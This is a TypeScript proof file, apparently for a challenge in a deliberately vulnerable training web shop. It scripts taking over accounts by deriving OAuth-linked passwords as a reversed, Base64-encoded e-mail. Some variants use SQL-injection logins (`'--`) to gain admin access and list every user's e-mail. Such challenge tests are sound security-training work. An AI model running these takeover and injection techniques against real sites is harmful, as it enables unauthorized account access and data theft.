import { type Attack, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const LOGIN = '/rest/user/login'
const BJOERN = 'bjorn.apfelkern@mail.test'

const backwards = (text: string) => [...text].reverse().join('')
const base64 = (text: string) => Buffer.from(text).toString('base64')
/** The page's own formula: the e-mail reversed, in Base64. */
const madeOf = (email: string) => base64(backwards(email))

/** Logs in as Björn. @param more additional or replaced fields */
const signIn =
  (more: object = {}): Attack =>
  (attacker) =>
    attacker.post(LOGIN, { email: BJOERN, password: madeOf(BJOERN), ...more })
const withPassword = (password: string) => signIn({ password })

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    // A review whose author never chose a password shows an account of the provider, with its e-mail.
    const reviews: { author: string; message: string }[] = (await attacker.get('/rest/products/17/reviews')).json().data
    const { author = '' } = reviews.find(({ message }) => /I chose no password/.test(message)) ?? {}
    await attacker.post(LOGIN, { email: author, password: madeOf(author) })
  },
  spellings: {
    'with the word that it comes from the provider': signIn({ oauth: true }),
    'with the word and a made-up access token': signIn({ oauth: true, accessToken: 'made-up' }),
    'with an access token and no word': signIn({ accessToken: 'made-up' }),
    'with a field that only the page knows': signIn({ rememberMe: true }),
    'with characters of the password escaped, as JSON allows': (attacker) =>
      attacker.post(LOGIN, `{"password":"${madeOf(BJOERN).replaceAll('=', '\\u003d')}","email":"${BJOERN}"}`, {
        headers: { 'content-type': 'application/json; charset=utf-8' },
      }),
    'with a slash behind the address': (attacker) =>
      attacker.post(`${LOGIN}/`, { email: BJOERN, password: madeOf(BJOERN) }),
    'as the page does, which tries to register first': async (attacker) => {
      const password = madeOf(BJOERN)
      await attacker.post('/api/Users', { email: BJOERN, password, passwordRepeat: password })
      await signIn({ oauth: true })(attacker)
    },
    'after two wrong passwords': async (attacker) => {
      for (const wrong of ['apfelkern', base64(BJOERN)]) await withPassword(wrong)(attacker)
      await signIn()(attacker)
    },
    'while signed in as somebody else': async (attacker) => {
      await attacker.becomeCustomer()
      await signIn()(attacker)
    },
    'with the e-mail from the administrator’s list of accounts': async (attacker) => {
      const admin = { email: `admin@${attacker.domain}'--`, password: 'x' }
      const { token } = (await attacker.post(LOGIN, admin)).json().authentication
      const headers = { authorization: `Bearer ${token}` }
      const users: { email: string }[] = (await attacker.get('/rest/user/authentication-details', { headers })).json()
        .data
      const { email } = users.find((user) => user.email.endsWith('@mail.test'))!
      await attacker.post(LOGIN, { email, password: madeOf(email) })
    },
  },
  nearMisses: {
    'the e-mail in Base64, but forwards': withPassword(base64(BJOERN)),
    'the e-mail backwards, but not in Base64': withPassword(backwards(BJOERN)),
    'Base64 first, then backwards': withPassword(backwards(base64(BJOERN))),
    'without what Base64 fills up with': withPassword(madeOf(BJOERN).replaceAll('=', '')),
    'an injection, which needs no password': signIn({ email: `${BJOERN}'--`, password: 'x' }),
    'his account at work, the same way': (attacker) => {
      const email = `bjoern@${attacker.domain}`
      return attacker.post(LOGIN, { email, password: madeOf(email) })
    },
    'an account of one’s own, made as the page makes them': async (attacker) => {
      const [email, password] = ['pip@graftmail.test', madeOf('pip@graftmail.test')]
      await attacker.post('/api/Users', { email, password, passwordRepeat: password })
      await attacker.post(LOGIN, { email, password, oauth: true })
    },
    'registering his e-mail once more': (attacker) => {
      const password = madeOf(BJOERN)
      return attacker.post('/api/Users', { email: BJOERN, password, passwordRepeat: password })
    },
    'the word that it comes from the provider, without the password': signIn({ password: 'x', oauth: true }),
  },
})
